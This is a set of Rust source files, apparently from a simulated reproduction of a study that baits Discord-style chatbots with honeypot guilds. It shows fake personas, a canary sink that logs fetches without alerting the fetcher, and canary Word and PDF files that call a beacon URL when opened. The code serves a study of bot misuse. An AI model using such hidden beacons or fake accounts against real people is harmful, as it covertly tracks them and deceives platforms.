pub fn generate_feed<R: Rng + ?Sized>(rng: &mut R, personas: usize, count: usize) -> Vec<FeedLine> {
    assert!(
        personas >= 2,
        "a conversation needs at least two participants"
    );
    let markov = MarkovChat::seeded(&[]);
    let mut out = Vec::with_capacity(count);
    let mut last_persona = usize::MAX;
    for i in 0..count {
        let mut persona = rng.gen_range(0..personas);
        if persona == last_persona {
            persona = (persona + 1) % personas;
        }
        last_persona = persona;
        let text = match i % 5 {
            0 => {
                let opener = OPENERS[rng.gen_range(0..OPENERS.len())];
                let topic = TOPICS[rng.gen_range(0..TOPICS.len())];
                opener.replace("{t}", topic)
            }
            3 => FOLLOWUPS[rng.gen_range(0..FOLLOWUPS.len())].to_string(),
            4 => {
                let len = 2 + rng.gen_range(0usize..8);
                markov.line(rng, len)
            }
            _ => REPLIES[rng.gen_range(0..REPLIES.len())].to_string(),
        };
        out.push(FeedLine { persona, text });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn alternation_no_consecutive_same_persona() {
        let mut rng = StdRng::seed_from_u64(1);
        let feed = generate_feed(&mut rng, 5, 200);
        for pair in feed.windows(2) {
            assert_ne!(pair[0].persona, pair[1].persona);
        }
    }

    #[test]
    fn personas_stay_in_range() {
        let mut rng = StdRng::seed_from_u64(2);
        let feed = generate_feed(&mut rng, 3, 100);
        assert!(feed.iter().all(|l| l.persona < 3));
        // All personas participate in a long enough feed.
        for p in 0..3 {
            assert!(
                feed.iter().any(|l| l.persona == p),
                "persona {p} never spoke"
            );
        }
    }

    #[test]
    fn register_is_short_and_informal() {
        let mut rng = StdRng::seed_from_u64(3);
        let feed = generate_feed(&mut rng, 2, 100);
        let avg_words: f64 = feed
            .iter()
            .map(|l| l.text.split_whitespace().count() as f64)
            .sum::<f64>()
            / feed.len() as f64;
        assert!(
            avg_words < 10.0,
            "OSN register, not email: avg {avg_words} words"
        );
        assert!(feed.iter().all(|l| !l.text.is_empty()));
    }

    #[test]
    fn deterministic() {
        let a = generate_feed(&mut StdRng::seed_from_u64(9), 4, 50);
        let b = generate_feed(&mut StdRng::seed_from_u64(9), 4, 50);
        assert_eq!(a, b);
    }

    #[test]
    fn markov_lines_are_short_and_nonempty() {
        let chain = MarkovChat::seeded(&["extra seed line for flavor"]);
        let mut rng = StdRng::seed_from_u64(5);
        for _ in 0..200 {
            let line = chain.line(&mut rng, 9);
            assert!(!line.is_empty());
            assert!(line.split_whitespace().count() <= 9);
        }
    }

    #[test]
    fn markov_is_deterministic_per_seed() {
        let chain = MarkovChat::seeded(&[]);
        let a: Vec<String> = (0..20)
            .map(|_| chain.line(&mut StdRng::seed_from_u64(1), 8))
            .collect();
        let b: Vec<String> = (0..20)
            .map(|_| chain.line(&mut StdRng::seed_from_u64(1), 8))
            .collect();
        assert_eq!(a, b);
    }

    #[test]
    #[should_panic(expected = "at least two")]
    fn one_persona_is_rejected() {
        let mut rng = StdRng::seed_from_u64(1);
        generate_feed(&mut rng, 1, 10);
    }
}
