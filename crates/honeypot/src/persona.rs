//! Virtual-user (persona) management.
//!
//! "to post a seemingly real conversation we create fake personas by
//! registering virtual users into Discord. In practice, we found that when
//! a new account quickly joins many guilds, it is flagged by Discord, and
//! mobile verification is required. As such, we completed this step
//! manually" (§4.2). The pool tracks how many of those manual
//! verifications the campaign needed — one of the costs the paper calls
//! out as future work to automate.

use discord_sim::{GuildId, Platform, PlatformError, PlatformResult, UserId};

/// A pool of virtual users shared across honeypot guilds.
pub struct PersonaPool {
    platform: Platform,
    personas: Vec<UserId>,
    /// Pre-verify accounts at registration time — the paper's future-work
    /// item ("an automated way of creating virtual users eliminating the
    /// manual mobile verification step"), modeled as provisioning each
    /// persona with a virtual number up front.
    pub auto_verify: bool,
    /// Manual mobile verifications that were required.
    pub manual_verifications: u64,
}

impl PersonaPool {
    /// Register `count` personas (manual-verification mode, as the paper
    /// operated).
    pub fn new(platform: Platform, count: usize) -> PersonaPool {
        Self::with_mode(platform, count, false)
    }

    /// Register `count` personas with explicit verification mode.
    pub fn with_mode(platform: Platform, count: usize, auto_verify: bool) -> PersonaPool {
        let personas: Vec<UserId> = (0..count)
            .map(|i| {
                platform.register_user(
                    &format!("persona-{i:03}#{:04}", 1000 + i),
                    &format!("persona{i}@lab.example"),
                )
            })
            .collect();
        if auto_verify {
            for &p in &personas {
                platform.verify_mobile(p).expect("freshly registered");
            }
        }
        PersonaPool {
            platform,
            personas,
            auto_verify,
            manual_verifications: 0,
        }
    }

    /// The persona accounts.
    pub fn members(&self) -> &[UserId] {
        &self.personas
    }

    /// Number of personas.
    pub fn len(&self) -> usize {
        self.personas.len()
    }

    /// True when the pool is empty.
    pub fn is_empty(&self) -> bool {
        self.personas.is_empty()
    }

    /// Join all personas into a guild, performing the "manual" mobile
    /// verification whenever the platform flags an account.
    pub fn join_all(&mut self, guild: GuildId, invite: Option<&str>) -> PlatformResult<()> {
        for &p in &self.personas {
            match self.platform.join_guild(p, guild, invite) {
                Ok(()) => {}
                Err(PlatformError::VerificationRequired) => {
                    // The researcher picks up the phone…
                    self.manual_verifications += 1;
                    self.platform.verify_mobile(p)?;
                    self.platform.join_guild(p, guild, invite)?;
                }
                Err(other) => return Err(other),
            }
        }
        Ok(())
    }

    /// Persona for a feed line index.
    pub fn by_index(&self, idx: usize) -> UserId {
        self.personas[idx % self.personas.len()]
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use discord_sim::GuildVisibility;
    use netsim::clock::VirtualClock;

    #[test]
    fn pool_joins_and_verifies_when_flagged() {
        let platform = Platform::new(VirtualClock::new());
        let owner = platform.register_user("owner", "o@x.y");
        let mut pool = PersonaPool::new(platform.clone(), 5);
        assert_eq!(pool.len(), 5);
        // Join across more guilds than the unverified limit to force flags.
        let mut guilds = Vec::new();
        for i in 0..15 {
            let g = platform
                .create_guild(owner, &format!("hp-{i}"), GuildVisibility::Private)
                .unwrap();
            let code = platform.create_invite(owner, g).unwrap();
            guilds.push((g, code));
        }
        for (g, code) in &guilds {
            pool.join_all(*g, Some(code)).unwrap();
        }
        assert!(
            pool.manual_verifications >= 5,
            "each persona was flagged once"
        );
        // All personas ended up in every guild.
        for (g, _) in &guilds {
            let guild = platform.guild(*g).unwrap();
            for &p in pool.members() {
                assert!(guild.member(p).is_ok());
            }
        }
    }

    #[test]
    fn auto_verified_pool_never_needs_manual_step() {
        let platform = Platform::new(VirtualClock::new());
        let owner = platform.register_user("owner", "o@x.y");
        let mut pool = PersonaPool::with_mode(platform.clone(), 5, true);
        assert!(pool.auto_verify);
        for i in 0..15 {
            let g = platform
                .create_guild(owner, &format!("g{i}"), GuildVisibility::Public)
                .unwrap();
            pool.join_all(g, None).unwrap();
        }
        assert_eq!(
            pool.manual_verifications, 0,
            "automation removed the manual step"
        );
    }

    #[test]
    fn by_index_wraps() {
        let platform = Platform::new(VirtualClock::new());
        let pool = PersonaPool::new(platform, 3);
        assert_eq!(pool.by_index(0), pool.by_index(3));
        assert_ne!(pool.by_index(0), pool.by_index(1));
    }
}
