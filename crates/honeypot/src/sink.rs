//! The canary signal sink.
//!
//! Two hosts, one service: the beacon host answers `GET /t/{token-id}` (URL
//! and document tokens) and the mail host accepts deliveries at
//! `/mail/{local-part}` (email tokens). Every hit is recorded with the
//! requester's trace label and the virtual timestamp — the "signal tied to
//! the token" of §3.

use netsim::clock::SimInstant;
use netsim::http::{Request, Response, Status};
use netsim::{Network, Service, ServiceCtx};
use parking_lot::Mutex;
use serde::{Deserialize, Serialize};
use std::sync::Arc;

/// Beacon host for URL/document tokens.
pub const SINK_HOST: &str = "canary-sink.sim";
/// Mail host for email tokens.
pub const MAIL_HOST: &str = "canary-mail.sim";

/// One recorded signal.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Trigger {
    /// Token ID (or email local part) that fired.
    pub token_id: String,
    /// The requester label the fabric observed (bot backend tag).
    pub requester: String,
    /// Virtual time of the hit.
    pub at: SimInstant,
    /// Whether this was a mail delivery (email token) or a URL fetch.
    pub via_mail: bool,
}

#[derive(Default)]
struct SinkInner {
    triggers: Vec<Trigger>,
}

/// The sink. Clone and mount on both hosts.
#[derive(Clone, Default)]
pub struct CanarySink {
    inner: Arc<Mutex<SinkInner>>,
}

impl CanarySink {
    /// A fresh sink.
    pub fn new() -> CanarySink {
        CanarySink::default()
    }

    /// Mount on [`SINK_HOST`] and [`MAIL_HOST`].
    pub fn mount(&self, net: &Network) {
        net.mount(SINK_HOST, self.clone());
        net.mount(MAIL_HOST, self.clone());
    }

    /// All recorded triggers, in order.
    pub fn triggers(&self) -> Vec<Trigger> {
        self.inner.lock().triggers.clone()
    }

    /// Triggers whose token ID contains `tag` (guild-name attribution).
    pub fn triggers_for_tag(&self, tag: &str) -> Vec<Trigger> {
        self.inner
            .lock()
            .triggers
            .iter()
            .filter(|t| t.token_id.contains(tag))
            .cloned()
            .collect()
    }

    /// Total trigger count.
    pub fn trigger_count(&self) -> usize {
        self.inner.lock().triggers.len()
    }
}

impl Service for CanarySink {
    fn handle(&mut self, req: &Request, ctx: &mut ServiceCtx<'_>) -> Response {
        let segments = req.url.segments();
        match segments.as_slice() {
            ["t", token_id] => {
                self.inner.lock().triggers.push(Trigger {
                    token_id: token_id.to_string(),
                    requester: ctx.requester.to_string(),
                    at: ctx.now,
                    via_mail: false,
                });
                // Serve something innocuous so the fetcher suspects nothing.
                Response::ok("<html><body>shared document</body></html>")
            }
            ["mail", local] => {
                self.inner.lock().triggers.push(Trigger {
                    token_id: local.to_string(),
                    requester: ctx.requester.to_string(),
                    at: ctx.now,
                    via_mail: true,
                });
                Response::ok("250 OK")
            }
            _ => Response::status(Status::NotFound),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use netsim::client::{ClientConfig, HttpClient};
    use netsim::http::Url;

    #[test]
    fn url_hits_are_recorded_with_requester() {
        let net = Network::new(2);
        let sink = CanarySink::new();
        sink.mount(&net);
        let mut client = HttpClient::new(
            net.clone(),
            ClientConfig {
                user_agent: "bot-backend/shady".into(),
                ..ClientConfig::default()
            },
        );
        client
            .get(Url::https(SINK_HOST, "/t/guild-x-url-000001"))
            .unwrap();
        let triggers = sink.triggers();
        assert_eq!(triggers.len(), 1);
        assert_eq!(triggers[0].token_id, "guild-x-url-000001");
        assert_eq!(triggers[0].requester, "bot-backend/shady");
        assert!(!triggers[0].via_mail);
    }

    #[test]
    fn mail_deliveries_are_recorded() {
        let net = Network::new(2);
        let sink = CanarySink::new();
        sink.mount(&net);
        let mut client = HttpClient::new(net, ClientConfig::impolite("spammer"));
        client
            .get(Url::https(MAIL_HOST, "/mail/guild-y-email-000002"))
            .unwrap();
        let t = sink.triggers();
        assert_eq!(t.len(), 1);
        assert!(t[0].via_mail);
    }

    #[test]
    fn tag_attribution() {
        let net = Network::new(2);
        let sink = CanarySink::new();
        sink.mount(&net);
        let mut client = HttpClient::new(net, ClientConfig::impolite("x"));
        client
            .get(Url::https(SINK_HOST, "/t/guild-melonian-url-1"))
            .unwrap();
        client
            .get(Url::https(SINK_HOST, "/t/guild-other-url-2"))
            .unwrap();
        assert_eq!(sink.triggers_for_tag("guild-melonian").len(), 1);
        assert_eq!(sink.triggers_for_tag("guild-other").len(), 1);
        assert_eq!(sink.triggers_for_tag("guild-nobody").len(), 0);
        assert_eq!(sink.trigger_count(), 2);
    }

    #[test]
    fn unknown_paths_do_not_record() {
        let net = Network::new(2);
        let sink = CanarySink::new();
        sink.mount(&net);
        let mut client = HttpClient::new(net, ClientConfig::impolite("x"));
        let resp = client.get(Url::https(SINK_HOST, "/favicon.ico")).unwrap();
        assert_eq!(resp.status, Status::NotFound);
        assert_eq!(sink.trigger_count(), 0);
    }
}
