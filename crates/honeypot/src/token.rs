//! Canary tokens.
//!
//! "Canary tokens consist of unique identifiers embedded in URLs or placed
//! in a document meta-data. Requesting the URL or opening the document
//! allows us to receive a signal tied to the token" (§3). Four kinds are
//! used (§4.2): email address, URL, Word document, and PDF.

use bytes::Bytes;
use platform::ChatAttachment;
use serde::{Deserialize, Serialize};
use std::fmt;

/// The four token kinds of the measurement, plus the webhook-token canary
/// this reproduction adds (detected on the network tap rather than at the
/// sink).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum TokenKind {
    /// A unique email address; *using* it (mail delivery) triggers.
    Email,
    /// A unique URL; requesting it triggers.
    Url,
    /// A Word document whose metadata references the beacon URL.
    WordDoc,
    /// A PDF whose annotation dictionary references the beacon URL.
    Pdf,
    /// A planted webhook credential; its token string appearing in *any*
    /// backend-originated network request is the signal (extension — the
    /// Spidey-Bot theft pattern the paper cites as \[54\]).
    WebhookToken,
}

impl TokenKind {
    /// The paper's four kinds (what [`TokenMint::mint_guild_set`] plants).
    pub const ALL: [TokenKind; 4] = [
        TokenKind::Email,
        TokenKind::Url,
        TokenKind::WordDoc,
        TokenKind::Pdf,
    ];
}

impl fmt::Display for TokenKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            TokenKind::Email => "email",
            TokenKind::Url => "url",
            TokenKind::WordDoc => "word-doc",
            TokenKind::Pdf => "pdf",
            TokenKind::WebhookToken => "webhook-token",
        })
    }
}

/// One minted token.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CanaryToken {
    /// Unique identifier (ties a trigger back to this token).
    pub id: String,
    /// Kind.
    pub kind: TokenKind,
    /// The guild tag encoded in the token — "We use the guild name as our
    /// identifier to detect triggered tokens" (§4.2).
    pub guild_tag: String,
}

impl CanaryToken {
    /// The beacon URL for URL/doc tokens.
    pub fn beacon_url(&self, sink_host: &str) -> String {
        format!("https://{sink_host}/t/{}", self.id)
    }

    /// The canary email address for email tokens.
    pub fn email_address(&self, mail_host: &str) -> String {
        format!("{}@{mail_host}", self.id)
    }

    /// Fake-but-plausible Word document bytes with the beacon URL embedded
    /// in `docProps` metadata (remote-template style).
    pub fn word_doc_bytes(&self, sink_host: &str) -> Bytes {
        let beacon = self.beacon_url(sink_host);
        let body = format!(
            "PK\x03\x04 [Content_Types].xml word/document.xml\n\
             <w:document><w:body><w:p>Q3 budget figures — internal only</w:p></w:body></w:document>\n\
             docProps/core.xml <dc:title>Budget</dc:title>\n\
             word/_rels/settings.xml.rels <Relationship Type=\"attachedTemplate\" Target=\"{beacon}\"/>\n"
        );
        Bytes::from(body)
    }

    /// Fake-but-plausible PDF bytes with the beacon URL in a URI action.
    pub fn pdf_bytes(&self, sink_host: &str) -> Bytes {
        let beacon = self.beacon_url(sink_host);
        let body = format!(
            "%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /URI /URI ({beacon}) >> >> endobj\n\
             2 0 obj << /Type /Page /Contents 3 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
        );
        Bytes::from(body)
    }

    /// Render this token as a platform-neutral message attachment (doc
    /// kinds only).
    pub fn as_attachment(&self, sink_host: &str) -> Option<ChatAttachment> {
        match self.kind {
            TokenKind::WordDoc => Some(ChatAttachment::new(
                &format!("{}-notes.docx", self.guild_tag),
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                self.word_doc_bytes(sink_host),
            )),
            TokenKind::Pdf => Some(ChatAttachment::new(
                &format!("{}-report.pdf", self.guild_tag),
                "application/pdf",
                self.pdf_bytes(sink_host),
            )),
            _ => None,
        }
    }
}

/// Mints unique tokens bound to a sink/mail host pair.
#[derive(Debug, Clone)]
pub struct TokenMint {
    /// Host the beacon URLs point at.
    pub sink_host: String,
    /// Host canary email addresses live on.
    pub mail_host: String,
    counter: u64,
}

impl TokenMint {
    /// A mint for the given hosts.
    pub fn new(sink_host: &str, mail_host: &str) -> TokenMint {
        TokenMint {
            sink_host: sink_host.to_string(),
            mail_host: mail_host.to_string(),
            counter: 0,
        }
    }

    /// Mint one token for a guild.
    pub fn mint(&mut self, kind: TokenKind, guild_tag: &str) -> CanaryToken {
        self.counter += 1;
        CanaryToken {
            id: format!("{guild_tag}-{kind}-{:06}", self.counter),
            kind,
            guild_tag: guild_tag.to_string(),
        }
    }

    /// Mint the full four-token set for a guild (§4.2: "Each guild was
    /// populated with a canary URL, email address, pdf and word document
    /// tokens").
    pub fn mint_guild_set(&mut self, guild_tag: &str) -> Vec<CanaryToken> {
        TokenKind::ALL
            .iter()
            .map(|k| self.mint(*k, guild_tag))
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use botsdk::malicious::urls_in_bytes;

    #[test]
    fn ids_are_unique_and_carry_guild_tag() {
        let mut mint = TokenMint::new("sink.sim", "mail.sim");
        let a = mint.mint(TokenKind::Url, "guild-melonian");
        let b = mint.mint(TokenKind::Url, "guild-melonian");
        assert_ne!(a.id, b.id);
        assert!(a.id.contains("guild-melonian"));
        assert_eq!(a.guild_tag, "guild-melonian");
    }

    #[test]
    fn guild_set_has_all_four_kinds() {
        let mut mint = TokenMint::new("sink.sim", "mail.sim");
        let set = mint.mint_guild_set("g1");
        let kinds: Vec<TokenKind> = set.iter().map(|t| t.kind).collect();
        assert_eq!(kinds, TokenKind::ALL.to_vec());
    }

    #[test]
    fn word_doc_embeds_beacon_where_openers_find_it() {
        let mut mint = TokenMint::new("sink.sim", "mail.sim");
        let t = mint.mint(TokenKind::WordDoc, "g1");
        let bytes = t.word_doc_bytes("sink.sim");
        let urls = urls_in_bytes(&bytes);
        assert_eq!(urls, vec![t.beacon_url("sink.sim")]);
    }

    #[test]
    fn pdf_embeds_beacon_where_openers_find_it() {
        let mut mint = TokenMint::new("sink.sim", "mail.sim");
        let t = mint.mint(TokenKind::Pdf, "g1");
        let urls = urls_in_bytes(&t.pdf_bytes("sink.sim"));
        assert_eq!(urls, vec![t.beacon_url("sink.sim")]);
    }

    #[test]
    fn attachments_only_for_doc_kinds() {
        let mut mint = TokenMint::new("sink.sim", "mail.sim");
        assert!(mint
            .mint(TokenKind::WordDoc, "g")
            .as_attachment("sink.sim")
            .is_some());
        assert!(mint
            .mint(TokenKind::Pdf, "g")
            .as_attachment("sink.sim")
            .is_some());
        assert!(mint
            .mint(TokenKind::Url, "g")
            .as_attachment("sink.sim")
            .is_none());
        assert!(mint
            .mint(TokenKind::Email, "g")
            .as_attachment("sink.sim")
            .is_none());
    }

    #[test]
    fn email_address_shape() {
        let mut mint = TokenMint::new("sink.sim", "canary-mail.sim");
        let t = mint.mint(TokenKind::Email, "g2");
        let addr = t.email_address("canary-mail.sim");
        assert!(addr.ends_with("@canary-mail.sim"));
        assert!(addr.starts_with("g2-email-"));
    }
}
