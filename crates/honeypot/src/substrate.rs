//! [`ChatSubstrate`] implementation for the Discord-style world — the
//! adapter that lets the (now platform-generic) campaign orchestrate the
//! original §4.2 measurement unchanged.
//!
//! Everything Discord-specific about the honeypot lives here: snowflake
//! IDs, the OAuth invite URL shape, the install captcha, webhook canaries,
//! and the mobile-verification friction the persona pool absorbs.

use crate::persona::PersonaPool;
use botsdk::{Behavior, Bot};
use discord_sim::oauth::InviteUrl;
use discord_sim::{ChannelId as DChannelId, GuildId, GuildVisibility, Platform, UserId};
use netsim::http::Url;
use netsim::Network;
use platform::{
    ActorId, ChannelId, ChatAttachment, ChatMessage, ChatSubstrate, PersonaRoster, PlatformKind,
    RoomId, SubstrateError, SubstrateResult,
};

fn map_err(e: impl std::fmt::Display) -> SubstrateError {
    SubstrateError(e.to_string())
}

fn user(raw: ActorId) -> UserId {
    UserId(discord_sim::Snowflake(raw))
}

fn guild(raw: RoomId) -> GuildId {
    GuildId(discord_sim::Snowflake(raw))
}

fn channel(raw: ChannelId) -> DChannelId {
    DChannelId(discord_sim::Snowflake(raw))
}

/// The campaign's persona pool on the Discord substrate: wraps
/// [`PersonaPool`] (which performs the "manual" mobile verification dance
/// whenever the platform flags a fresh account).
struct DiscordPersonaRoster {
    pool: PersonaPool,
}

impl PersonaRoster for DiscordPersonaRoster {
    fn join_all(&mut self, room: RoomId, invite_code: Option<&str>) -> SubstrateResult<()> {
        self.pool
            .join_all(guild(room), invite_code)
            .map_err(map_err)
    }

    fn by_index(&self, idx: usize) -> ActorId {
        self.pool.by_index(idx).0.raw()
    }

    fn len(&self) -> usize {
        self.pool.len()
    }

    fn manual_verifications(&self) -> u64 {
        self.pool.manual_verifications
    }
}

/// The Discord-style world as a [`ChatSubstrate`].
#[derive(Clone)]
pub struct DiscordSubstrate {
    platform: Platform,
    net: Network,
}

impl DiscordSubstrate {
    /// Wrap a platform + network pair.
    pub fn new(platform: Platform, net: Network) -> DiscordSubstrate {
        DiscordSubstrate { platform, net }
    }

    /// The underlying platform handle.
    pub fn platform(&self) -> &Platform {
        &self.platform
    }
}

impl ChatSubstrate for DiscordSubstrate {
    type Behavior = dyn Behavior;
    type Backend = Bot;

    fn kind(&self) -> PlatformKind {
        PlatformKind::Discord
    }

    fn network(&self) -> &Network {
        &self.net
    }

    fn register_operator(&self, handle: &str, email: &str) -> ActorId {
        self.platform.register_user(handle, email).0.raw()
    }

    fn provision_personas(&self, count: usize, auto_verify: bool) -> Box<dyn PersonaRoster> {
        Box::new(DiscordPersonaRoster {
            pool: PersonaPool::with_mode(self.platform.clone(), count, auto_verify),
        })
    }

    fn create_room(&self, owner: ActorId, name: &str) -> SubstrateResult<RoomId> {
        self.platform
            .create_guild(user(owner), name, GuildVisibility::Private)
            .map(|g| g.0.raw())
            .map_err(map_err)
    }

    fn room_invite(&self, owner: ActorId, room: RoomId) -> SubstrateResult<String> {
        self.platform
            .create_invite(user(owner), guild(room))
            .map_err(map_err)
    }

    fn install_requires_captcha(&self) -> bool {
        // "To add a chatbot to the guild, we need to solve a Google
        // reCAPTCHA" (§4.2).
        true
    }

    fn install_bot(
        &self,
        installer: ActorId,
        room: RoomId,
        invite: &str,
        captcha_solved: bool,
    ) -> SubstrateResult<ActorId> {
        let url = Url::parse(invite).map_err(map_err)?;
        let parsed = InviteUrl::parse(&url).map_err(map_err)?;
        self.platform
            .install_bot(user(installer), guild(room), &parsed, captcha_solved)
            .map(|u| u.0.raw())
            .map_err(map_err)
    }

    fn plant_webhook(
        &self,
        owner: ActorId,
        room: RoomId,
        name: &str,
    ) -> SubstrateResult<Option<String>> {
        let ch = self
            .platform
            .default_channel(guild(room))
            .map_err(map_err)?;
        self.platform
            .create_webhook(user(owner), ch, name)
            .map(|hook| Some(hook.token))
            .map_err(map_err)
    }

    fn connect_backend(
        &self,
        bot: ActorId,
        label: &str,
        behavior: Box<Self::Behavior>,
    ) -> SubstrateResult<Self::Backend> {
        Bot::connect(
            self.platform.clone(),
            self.net.clone(),
            user(bot),
            label,
            behavior,
        )
        .map_err(map_err)
    }

    fn drive_to_idle(&self, backend: &mut Self::Backend) -> usize {
        // Same rounds-until-quiescent discipline as `BotRunner`, scoped to
        // the one backend a guild owns (the round cap defuses reply loops).
        let mut total = 0;
        for _ in 0..1_000 {
            let n = backend.poll();
            if n == 0 {
                break;
            }
            total += n;
        }
        total
    }

    fn default_channel(&self, room: RoomId) -> SubstrateResult<ChannelId> {
        self.platform
            .default_channel(guild(room))
            .map(|c| c.0.raw())
            .map_err(map_err)
    }

    fn send_message(
        &self,
        author: ActorId,
        ch: ChannelId,
        content: &str,
        attachments: Vec<ChatAttachment>,
    ) -> SubstrateResult<u64> {
        let attachments = attachments
            .into_iter()
            .map(|a| discord_sim::message::Attachment::new(&a.filename, &a.content_type, a.bytes))
            .collect();
        self.platform
            .send_message(user(author), channel(ch), content, attachments)
            .map(|id| id.0.raw())
            .map_err(map_err)
    }

    fn read_history(&self, reader: ActorId, ch: ChannelId) -> SubstrateResult<Vec<ChatMessage>> {
        let messages = self
            .platform
            .read_history(user(reader), channel(ch))
            .map_err(map_err)?;
        Ok(messages
            .into_iter()
            .map(|m| ChatMessage {
                id: m.id.0.raw(),
                author: m.author.0.raw(),
                author_is_bot: self
                    .platform
                    .user(m.author)
                    .map(|u| u.is_bot())
                    .unwrap_or(false),
                content: m.content,
                at: m.at,
            })
            .collect())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use botsdk::BenignBehavior;
    use discord_sim::Permissions;
    use netsim::clock::VirtualClock;

    fn substrate() -> DiscordSubstrate {
        let clock = VirtualClock::new();
        let net = Network::with_clock(3, clock.clone());
        DiscordSubstrate::new(Platform::new(clock), net)
    }

    #[test]
    fn full_room_lifecycle_via_trait() {
        let s = substrate();
        let op = s.register_operator("researcher#0001", "research@lab.example");
        let room = s.create_room(op, "honeypot-a").unwrap();
        let invite = s.room_invite(op, room).unwrap();
        let mut roster = s.provision_personas(3, true);
        roster.join_all(room, Some(&invite)).unwrap();
        assert_eq!(roster.len(), 3);

        let dev = s.platform().register_user("dev", "d@x.y");
        let app = s
            .platform()
            .register_bot_application(dev, "HelpBot")
            .unwrap();
        let link = InviteUrl::bot(
            app.client_id,
            Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL,
        )
        .to_url()
        .to_string();
        assert!(s.install_requires_captcha());
        let bot = s.install_bot(op, room, &link, true).unwrap();
        assert_eq!(bot, app.bot_user.0.raw());
        let mut backend = s
            .connect_backend(bot, "helpbot", Box::new(BenignBehavior::new("fun")))
            .unwrap();

        let ch = s.default_channel(room).unwrap();
        s.send_message(roster.by_index(0), ch, "!ping", vec![])
            .unwrap();
        assert!(s.drive_to_idle(&mut backend) >= 1);

        let history = s.read_history(op, ch).unwrap();
        let last = history.last().unwrap();
        assert_eq!(last.content, "pong");
        assert!(last.author_is_bot);
    }

    #[test]
    fn webhooks_exist_here() {
        let s = substrate();
        let op = s.register_operator("r#1", "r@lab.example");
        let room = s.create_room(op, "h").unwrap();
        let token = s.plant_webhook(op, room, "ci-updates").unwrap();
        assert!(token.is_some(), "Discord has webhook credentials to plant");
    }

    #[test]
    fn install_rejects_foreign_and_garbage_links() {
        let s = substrate();
        let op = s.register_operator("r#2", "r@lab.example");
        let room = s.create_room(op, "h2").unwrap();
        assert!(s
            .install_bot(op, room, "https://t.sim/somebot?startgroup=true", true)
            .is_err());
        assert!(s.install_bot(op, room, "not a link at all", true).is_err());
    }
}
