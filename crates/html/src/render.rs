//! Serialization: the tree → HTML text that travels over the fabric.

use crate::node::{Document, Node};

/// Tags serialized without a closing tag (HTML "void elements").
const VOID_TAGS: &[&str] = &["br", "hr", "img", "input", "link", "meta"];

/// Render a document to an HTML string with a doctype line.
pub fn render_document(doc: &Document) -> String {
    let mut out = String::from("<!DOCTYPE html>");
    render_node(&doc.root, &mut out);
    out
}

/// Render a single node (and subtree) to HTML.
pub fn render_node(node: &Node, out: &mut String) {
    match node {
        Node::Text(t) => out.push_str(&escape_text(t)),
        Node::Element {
            tag,
            attrs,
            children,
        } => {
            out.push('<');
            out.push_str(tag);
            for (k, v) in attrs {
                out.push(' ');
                out.push_str(k);
                out.push_str("=\"");
                out.push_str(&escape_attr(v));
                out.push('"');
            }
            out.push('>');
            if VOID_TAGS.contains(&tag.as_str()) {
                return;
            }
            for c in children {
                render_node(c, out);
            }
            out.push_str("</");
            out.push_str(tag);
            out.push('>');
        }
    }
}

/// Render a node to a fresh string.
pub fn render_to_string(node: &Node) -> String {
    let mut s = String::new();
    render_node(node, &mut s);
    s
}

/// Escape text content.
pub fn escape_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for ch in s.chars() {
        match ch {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            _ => out.push(ch),
        }
    }
    out
}

/// Escape attribute values (quotes too).
pub fn escape_attr(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for ch in s.chars() {
        match ch {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            _ => out.push(ch),
        }
    }
    out
}

/// Unescape the entities this crate emits (used by the parser).
pub fn unescape(s: &str) -> String {
    s.replace("&quot;", "\"")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::build::el;

    #[test]
    fn renders_simple_page() {
        let doc = Document::new(
            el("html")
                .child(el("body").child(el("p").id("x").text("hi")))
                .build(),
        );
        assert_eq!(
            render_document(&doc),
            "<!DOCTYPE html><html><body><p id=\"x\">hi</p></body></html>"
        );
    }

    #[test]
    fn escapes_text_and_attrs() {
        let n = el("a")
            .attr("title", "a \"b\" <c>")
            .text("x < y & z")
            .build();
        let html = render_to_string(&n);
        assert!(html.contains("a &quot;b&quot; &lt;c&gt;"));
        assert!(html.contains("x &lt; y &amp; z"));
    }

    #[test]
    fn void_tags_have_no_close() {
        let n = el("div")
            .child(el("br"))
            .child(el("img").attr("src", "/x.png"))
            .build();
        let html = render_to_string(&n);
        assert!(html.contains("<br>"));
        assert!(!html.contains("</br>"));
        assert!(!html.contains("</img>"));
    }

    #[test]
    fn unescape_inverts_escape() {
        let original = "a<b>&\"quoted\" & more";
        assert_eq!(unescape(&escape_attr(original)), original);
        let text_only = "1 < 2 && 3 > 2";
        assert_eq!(unescape(&escape_text(text_only)), text_only);
    }
}
