//! Element locators, modeled on Selenium's locator strategies.
//!
//! The crawler uses these to pull attributes out of pages; when a page
//! variant doesn't contain the element, [`Locator::find`] returns
//! [`LocateError::NoSuchElement`] — the simulation's analogue of Selenium's
//! `NoSuchElementException` the paper explicitly handles.

use crate::node::{Document, Node};
use std::fmt;

/// Failure to locate an element.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LocateError {
    /// No element matched the locator (cf. `NoSuchElementException`).
    NoSuchElement {
        /// String form of the locator that failed.
        locator: String,
    },
